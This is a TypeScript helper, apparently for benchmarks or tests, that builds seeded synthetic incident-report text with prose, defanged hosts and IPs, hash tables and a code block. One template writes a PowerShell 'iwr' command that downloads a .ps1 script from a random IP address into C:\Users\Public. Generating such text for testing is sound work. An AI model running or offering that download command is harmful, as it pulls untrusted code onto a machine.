import { Random } from '../test/unit/support/random.js';

const WORDS = 'the attacker moved from a workstation to the file server and copied archives before the alert was raised by the team on duty which then cut the network'.split(' ');

/** A text as reports are: prose, lists and tables of indicators, code; the same for the same seed. */
export function mixedText(length: number, seed: number): string {
  const random = new Random(seed);
  const hex = (digits: number): string => Array.from({ length: digits }, () => random.below(16).toString(16)).join('');
  const host = (): string => `${random.pick(WORDS)}-${random.below(999)}.${random.pick(['com', 'net', 'org', 'ru'])}`;
  const address = (): string => Array.from({ length: 4 }, () => random.below(256)).join('.');
  const makers = [
    () => `${Array.from({ length: 40 }, () => random.pick(WORDS)).join(' ')}.`,
    () => `${Array.from({ length: 25 }, () => random.pick(WORDS)).join(' ')} (see [the page](https://${host()}/a/${random.below(99)})).`,
    () => `- \`${host().replaceAll('.', '[.]')}\`: ${random.pick(WORDS)} ${random.pick(WORDS)}`,
    () => `- ${address().replaceAll('.', '[.]')}, hxxps://${host().replace('.', '[.]')}/${random.pick(WORDS)}.php?id=${random.below(9999)}`,
    () => `| ${random.pick(WORDS)}.exe | ${hex(32)} | ${hex(64)} |`,
    () => `\`\`\`\npowershell -c "iwr http://${address()}/${random.pick(WORDS)}.ps1" > C:\\Users\\Public\\${random.pick(WORDS)}.log\n\`\`\``,
  ];
  let text = '# Incident Report: Bench\n';
  while (text.length < length) text += `\n${random.pick(makers)()}\n`;
  return text.slice(0, length);
}
